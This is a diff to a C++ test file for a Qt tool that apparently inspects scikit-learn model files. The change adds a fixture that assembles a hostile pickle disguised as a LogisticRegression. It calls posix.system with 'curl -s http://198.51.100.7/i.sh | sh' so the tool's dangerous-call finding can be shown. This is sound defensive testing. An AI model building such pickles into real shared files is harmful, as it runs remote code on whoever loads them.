@@ -17,6 +17,7 @@
 #include <QToolButton>
 #include <QTreeView>
 
+#include <algorithm>
 #include <cstdio>
 
 using namespace skops;
@@ -73,6 +74,18 @@ void tickAll(MainWindow& window)
     window.document().setTicked(names, true);
 }
 
+/// A model with something in it that no model needs, as it is sent to people.
+std::string hostilePickle()
+{
+    const std::string model = test::import("sklearn.linear_model._logistic", "LogisticRegression") +
+                              ")\x81}(S'C'\nF1.0\nS'max_iter'\nI100\nS'_sklearn_version'\nS'1.7.2'\nub";
+    const std::string payload =
+        test::import("posix", "system") + test::callWith("curl -s http://198.51.100.7/i.sh | sh");
+    const std::string helper = test::import("helpers.warmup", "prepare") + test::callWith("model");
+    const std::string table = test::import("collections", "OrderedDict") + ")R";
+    return "\x80\x02](" + table + model + payload + helper + "e.";
+}
+
 bool takeAll(const QString& folder, const QTemporaryDir& made)
 {
     const QDir samples(QStringLiteral(SKOPS_SOURCE_DIR "/resources/samples"));
@@ -80,6 +93,8 @@ bool takeAll(const QString& folder, const QTemporaryDir& made)
     const QString forest = samples.filePath(QStringLiteral("random_forest.skops"));
     const QString dangerous =
         test::writeSkops(made, QStringLiteral("dangerous.skops"), test::dangerousSchema());
+    const QString genuinePickle = samples.filePath(QStringLiteral("scaled_regression.pkl"));
+    const QString hostile = test::writeFile(made, QStringLiteral("churn_model.pkl"), hostilePickle());
     QFile broken(made.filePath(QStringLiteral("broken.skops")));
     if (!broken.open(QIODevice::WriteOnly) || broken.write("no model at all") < 0)
         return false;
@@ -91,7 +106,7 @@ bool takeAll(const QString& folder, const QTemporaryDir& made)
         isDone &= photographer.take(QStringLiteral("empty"), {});
         isDone &= photographer.take(QStringLiteral("to-review"), forest, [](MainWindow& w) {
             openLevels(w, 1);
-            w.document().goTo(w.document().review()->audit->types().front().nodes.front());
+            w.document().goTo({.node = w.document().review()->audit->types().front().nodes.front()});
         });
         isDone &=
             photographer.take(QStringLiteral("trusted"), model, [](MainWindow& w) { openLevels(w, 5); });
@@ -101,6 +116,13 @@ bool takeAll(const QString& folder, const QTemporaryDir& made)
         });
         isDone &= photographer.take(QStringLiteral("dangerous"), dangerous,
                                     [](MainWindow& w) { openLevels(w, 2); });
+        isDone &= photographer.take(QStringLiteral("pickle"), genuinePickle);
+        isDone &= photographer.take(QStringLiteral("hostile-pickle"), hostile, [](MainWindow& w) {
+            const auto& findings = w.document().review()->findings;
+            const auto call = std::ranges::find(findings, Code::CallDangerous, &Finding::code);
+            if (call != findings.end())
+                w.document().goTo(call->where);
+        });
         isDone &= photographer.take(QStringLiteral("broken"), broken.fileName());
     }
     return isDone;
